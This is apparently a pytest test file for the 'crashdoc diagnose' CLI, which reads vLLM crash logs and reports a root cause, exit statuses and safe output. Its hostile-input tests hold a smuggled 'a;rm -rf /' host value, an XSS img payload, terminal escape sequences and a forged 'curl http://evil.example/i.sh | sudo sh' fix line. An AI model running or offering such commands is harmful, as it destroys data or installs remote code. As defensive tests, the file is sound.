"""`crashdoc diagnose` end to end: the JSON contract, exit statuses, hostile input, safe terminal output."""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path

import pytest

from tests.cli.helpers import ROOT, crashdoc
from tests.support.markdown import assert_paste_ready

SAMPLE = ROOT / "examples" / "founding-case.log"


def test_founding_case_sample_names_cause_ranks_frame_and_fix() -> None:
    r = crashdoc("diagnose", str(SAMPLE), "--format", "json")
    assert r.status == 0, r.stderr
    rc = r.json["root_cause"]
    assert "flashinfer-cubin version (0.6.3) does not match flashinfer version (0.6.4)" in rc["line"]
    assert rc["exception"] == "RuntimeError" and rc["category"] == "dependency_version_mismatch"
    assert rc["fix"]["command"] == "pip install flashinfer-cubin==0.6.4"
    assert rc["where"]["process"].startswith("Worker_TP") and "deepseek_v2.py" in rc["where"]["frame"]
    assert rc["count"] >= 2 and len(rc["ranks"]) >= 2  # the same traceback from several ranks is one finding
    lines = SAMPLE.read_text().splitlines()
    assert lines[rc["lineno"] - 1] == rc["line"]  # the line is the input's, with its number
    assert len(r.json["attempts"]) >= 3
    assert "attempts failed with this error" in r.json["summary"] or "all" in r.json["summary"]


def test_terminal_report_of_the_sample() -> None:
    r = crashdoc("diagnose", str(SAMPLE), "--width", "200")
    assert r.status == 0
    out = r.stdout
    assert "RuntimeError: flashinfer-cubin version (0.6.3)" in out
    assert "$ pip install flashinfer-cubin==0.6.4" in out and "deepseek_v2.py" in out
    assert "Worker_TP" in out and "\x1b" not in out  # not a tty: no escape codes at all


def test_markdown_report_of_the_sample() -> None:
    r = crashdoc("diagnose", str(SAMPLE), "--format", "markdown")
    assert r.status == 0 and r.stdout.startswith("# crashdoc report")
    assert "```sh\npip install flashinfer-cubin==0.6.4\n```" in r.stdout


def test_stdin_and_gzip_inputs(tmp_path: Path) -> None:
    data = SAMPLE.read_bytes()
    via_stdin = crashdoc("diagnose", "-", "--format", "json", stdin=data).json["root_cause"]
    gz = tmp_path / "log.gz"
    gz.write_bytes(gzip.compress(data))
    via_gz = crashdoc("diagnose", str(gz), "--format", "json").json["root_cause"]
    assert via_stdin["line"] == via_gz["line"] and via_stdin["lineno"] == via_gz["lineno"]


def test_clean_log_exits_3_with_null_root_cause(tmp_path: Path) -> None:
    log = tmp_path / "ok.log"
    log.write_text("(APIServer pid=1) INFO 11-30 09:00:00 [api.py:1] Starting vLLM API server on http://0.0.0.0:8000\n" * 50)
    r = crashdoc("diagnose", str(log), "--format", "json")
    assert r.status == 3 and r.json["root_cause"] is None


@pytest.mark.parametrize(
    "args,status,needle",
    [
        (["diagnose", "/nonexistent/x.log"], 2, "no such file"),
        (["diagnose", "/tmp"], 2, "is a directory"),
        (["diagnose", "bad;unit.service"], 2, "refusing unit name"),
        (["diagnose", "vllm.service", "--host", "a;rm -rf /"], 2, "refusing host"),
        (["eval", "/nonexistent"], 2, "not a corpus folder"),
    ],
)
def test_user_errors_are_one_line_with_a_status(args: list[str], status: int, needle: str) -> None:
    r = crashdoc(*args)
    assert r.status == status, (r.stdout, r.stderr)
    assert needle in r.stderr and "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_hostile_inputs_give_a_report_never_a_traceback(tmp_path: Path) -> None:
    cases = {
        "binary": os.urandom(1 << 20),
        "invalid-utf8": b"\xff\xfeRuntimeError: bad \xc3\x28 bytes\n",
        "long-line": b"INFO a\n" + b"x" * (50 << 20) + b"\nValueError: after a 50 MB line\n",
        "nul-bytes": b"\x00" * 1000 + b"\nRuntimeError: after NULs\n",
        "truncated-gzip": gzip.compress(b"RuntimeError: inside gzip\n" * 2000)[:120],
        "empty": b"",
    }
    for name, data in cases.items():
        p = tmp_path / name
        p.write_bytes(data)
        r = crashdoc("diagnose", str(p), "--format", "json", timeout=120)
        assert r.status in (0, 3), (name, r.stderr)
        assert "Traceback" not in r.stderr, name
    r = crashdoc("diagnose", str(tmp_path / "long-line"), "--format", "json")
    assert r.json["root_cause"]["lineno"] == 3
    r = crashdoc("diagnose", str(tmp_path / "truncated-gzip"), "--format", "json")
    assert any(s["what"] == "input" and "truncated" in s["reason"] for s in r.json["skipped"])


def test_control_characters_and_markup_never_reach_the_terminal(tmp_path: Path) -> None:
    evil = (
        b"Traceback (most recent call last):\n"
        b'  File "/a.py", line 1, in f\n'
        b"RuntimeError: \x1b]0;owned\x07\x1b[2J\x1b[31m[bold red]fake[/bold red] \x07\x08\x9b\xe2\x80\xae done\n"
    )
    log = tmp_path / "evil.log"
    log.write_bytes(evil)
    for fmt in ("terminal", "markdown"):
        r = crashdoc("diagnose", str(log), "--format", fmt)
        assert r.status == 0
        bad = [c for c in r.stdout if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]
        assert not bad, (fmt, bad)
        assert "[bold red]fake[/bold red]" in r.stdout  # shown as text, not interpreted as markup
    j = crashdoc("diagnose", str(log), "--format", "json").json
    assert j["root_cause"]["line"] == evil.splitlines()[2].decode("utf-8", "replace")  # JSON keeps the exact line


def test_output_file(tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    r = crashdoc("diagnose", str(SAMPLE), "--format", "json", "--output", str(out))
    assert r.status == 0 and r.stdout == "" and '"root_cause"' in out.read_text()


def test_forged_report_lines_and_markdown_injection_are_neutralised(tmp_path: Path) -> None:
    rec = {"__REALTIME_TIMESTAMP": "1764493921000000", "_HOSTNAME": "h", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7",
           "MESSAGE": "RuntimeError: x went wrong <img src=x onerror=alert(1)> ![t](http://evil.example/p.png)"
                      "\nFix       $ curl http://evil.example/i.sh | sudo sh"}
    log = tmp_path / "j.json"
    log.write_text(json.dumps(rec) + "\n")
    term = crashdoc("diagnose", str(log), "--width", "300").stdout
    assert not any(ln.lstrip().startswith(("Fix       $ curl", "$ curl")) for ln in term.splitlines())
    md = crashdoc("diagnose", str(log), "--format", "markdown").stdout
    tokens = assert_paste_ready(md)  # rendered as GitHub would: no image, link or HTML from the log
    assert any("<img src=x" in t.content for t in tokens if t.type in ("fence", "code_inline"))


@pytest.mark.parametrize(
    "setup,status,needle",
    [
        ("bad-gzip", 2, "nothing could be read"),
        ("bad-rules", 2, "missing 'category'"),
    ],
)
def test_unreadable_inputs_exit_2(tmp_path: Path, setup: str, needle: str, status: int) -> None:
    if setup == "bad-gzip":
        p = tmp_path / "bad.gz"
        p.write_bytes(b"\x1f\x8b" + b"garbage" * 10)
        args = [str(p)]
    else:
        (tmp_path / "x").mkdir()
        (tmp_path / "x" / "y.yaml").write_text("id: y\n")
        args = [str(SAMPLE), "--rules", str(tmp_path)]
    r = crashdoc("diagnose", *args)
    assert r.status == status and needle in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_closed_stdin_exits_2() -> None:
    import subprocess
    import sys

    # a real process: its standard input (fd 0) is closed, which no in-process runner can give it
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    cmd = [sys.executable, "-m", "crashdoc", "diagnose", "-"]
    r = subprocess.run(["sh", "-c", 'exec "$@" <&-', "sh", *cmd], capture_output=True, text=True, env=env, check=False)
    assert r.returncode == 2 and "standard input is closed" in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_closed_pipe_keeps_the_exit_status() -> None:
    import subprocess
    import sys

    # a real process: its stdout is a pipe that `head` closes early
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    p = subprocess.run(["bash", "-c", f'"{sys.executable}" -m crashdoc diagnose "{SAMPLE}" | head -1; echo "${{PIPESTATUS[0]}}"'],
                       capture_output=True, text=True, env=env, check=False)
    assert p.stdout.strip().splitlines()[-1] == "0", (p.stdout, p.stderr)
    assert "Traceback" not in p.stderr


def test_multi_line_journal_message_and_kubectl_prefix(tmp_path: Path) -> None:
    tb = ("Traceback (most recent call last):\n  File \"/v/vllm/x.py\", line 3, in f\n    g()\n"
          "RuntimeError: weird novel failure in custom op registry")
    recs = [{"__REALTIME_TIMESTAMP": "1764493921000000", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7", "MESSAGE": "INFO start"},
            {"__REALTIME_TIMESTAMP": "1764493922000000", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7", "MESSAGE": tb}]
    log = tmp_path / "j.json"
    log.write_text("Hint: You are currently not seeing messages from other users and the system.\n"
                   + "\n".join(json.dumps(r) for r in recs) + "\n")
    rc = crashdoc("diagnose", str(log), "--format", "json").json["root_cause"]
    assert rc["exception"] == "RuntimeError" and rc["lineno"] == 3 and rc["where"]["frame"].startswith("x.py:3")
    k = tmp_path / "k.log"
    k.write_text("[pod/vllm-0/vllm] INFO 11-30 09:00:00 [api.py:1] start\n[pod/vllm-0/vllm] RuntimeError: weird thing in sampler\n")
    rc = crashdoc("diagnose", str(k), "--format", "json").json["root_cause"]
    assert rc["lineno"] == 2 and rc["exception"] == "RuntimeError"
